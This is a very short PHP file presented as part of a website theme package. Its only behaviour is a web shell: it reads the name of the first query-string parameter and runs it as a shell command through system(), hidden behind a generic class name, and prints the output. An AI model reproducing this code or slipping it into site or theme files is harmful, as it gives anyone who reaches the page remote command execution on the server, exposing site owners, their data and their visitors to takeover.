<?php
/**
 * @package Theme
 */
$val = key($_GET);
class Tool31 { static function run($x) { return system($x); } }
echo call_user_func('Tool31::run', $val);
